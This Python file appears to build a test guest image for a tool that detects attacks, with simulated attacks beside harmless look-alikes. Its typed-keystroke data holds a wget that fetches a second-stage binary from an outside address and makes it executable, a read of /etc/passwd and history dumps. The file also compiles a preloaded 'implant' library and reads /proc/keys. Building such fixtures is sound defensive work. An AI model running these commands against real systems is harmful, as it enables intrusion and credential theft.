"""A guest with attacks in user space, and with what looks like them and is harmless; with `clean` in the
kernel's command line without the attacks."""

from __future__ import annotations

import stat
import subprocess
import tempfile
from pathlib import Path

from samples.apt import AptError
from samples.compiler import _tree
from samples.guest_files import GUEST, OBSERVER, Entry, Recipe

IMPLANT = "/opt/libimplant.so"
"""A library that is preloaded."""
LIBRARY = GUEST / "implant.c"
"""What it is made of."""
TYPED = {
    "root": [
        "echo first of all",
        "export TOKEN=hunter2",
        "wget -q http://198.51.100.7/stage2 -O /tmp/.x; chmod +x /tmp/.x",
        "echo naïve ☃ snow",
        "\tfor n in 1 2; do",
        '\techo "$n" > /dev/null',
        "done",
        f"# {'long ' * 600}end",
        "history > /run/history-root",
    ],
    "short": ["HISTSIZE=3", "id", "uname -a", "cat /etc/passwd", "history > /run/history-short"],
    "bc": ["6*7", "2^64", "define secret(x) { return x+1; }"],
}
"""What is typed at interactive programs: see guest/typist.h."""
_PLAN = (
    "command uname -a",
    "command cat /run/history-root",
    "command cat /run/history-short",
    "command sh -c cat</proc/keys",
    "last /proc/keys",
    "last /proc/key-users",
    "settle comm maps",
)


def recipe() -> Recipe:
    """The files of the guest."""
    typed = (
        Entry(f"srv/typed-{name}", stat.S_IFREG | 0o644, "".join(f"{line}\n" for line in lines).encode())
        for name, lines in TYPED.items()
    )
    return Recipe(
        entries=(
            Entry("init", stat.S_IFREG | 0o755, (GUEST / "hunt_init.sh").read_bytes()),
            Entry("srv/plan", stat.S_IFREG | 0o644, "".join(f"{line}\n" for line in _PLAN).encode()),
            *typed,
            Entry(IMPLANT[1:], stat.S_IFREG | 0o755, _library(LIBRARY)),
            Entry("etc/passwd", stat.S_IFREG | 0o644, b"root:x:0:0::/root:/bin/sh\n"),
            *(Entry(name, stat.S_IFDIR | 0o755) for name in ("proc", "sys", "dev", "run", "root", "tmp")),
            Entry("dev/console", stat.S_IFCHR | 0o600, device=(5, 1)),
        ),
        programs=((OBSERVER, GUEST / "observer.c"), ("usr/libexec/attacks", GUEST / "attacks.c")),
        packages=("dash", "bash", "bc", "coreutils", "grep", "mount", "iproute2", "libc6"),
        wanted=("usr/bin/(dash|sh|bash|bc|cat|cp|sleep|uname|mount|mkdir|grep|id|ip)", "usr/sbin/ip"),
        modules=(),
    )


def _library(source: Path) -> bytes:
    """The shared library that a C file without includes makes."""
    tcc = _tree() / "usr/bin/tcc"
    with tempfile.TemporaryDirectory() as scratch:
        target = Path(scratch) / "library"
        command: list[str | Path] = [tcc, "-nostdinc", "-nostdlib", "-shared", "-o", target, source]
        done = subprocess.run(command, capture_output=True, text=True, check=False)
        if done.returncode:
            raise AptError(f"{source.name} does not compile: {done.stderr.strip()}")
        return target.read_bytes()
